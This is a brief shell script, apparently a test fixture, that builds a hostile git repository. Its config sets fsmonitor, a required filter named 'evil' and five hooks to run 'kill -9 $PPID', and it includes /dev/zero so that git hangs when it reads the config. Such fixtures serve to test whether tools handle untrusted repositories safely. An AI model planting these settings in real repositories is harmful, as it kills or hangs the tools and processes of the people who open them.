mkdir -p refs/heads objects/info hooks .githooks
printf 'ref: refs/heads/main\n' > HEAD
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "kill -9 $PPID; false"\n\thooksPath = .githooks\n\tsshCommand = false\n[filter "evil"]\n\tclean = "kill -9 $PPID"\n\tsmudge = "kill -9 $PPID"\n\trequired = true\n[include]\n\tpath = /dev/zero\n' > config
cp config .gitconfig
printf '* filter=evil\n' > .gitattributes
for hook in pre-commit post-checkout reference-transaction pre-push post-index-change; do printf '#!/bin/sh\nkill -9 $PPID\n' > hooks/$hook; chmod +x hooks/$hook; cp hooks/$hook .githooks/; done
touch refs/heads/keep objects/info/keep
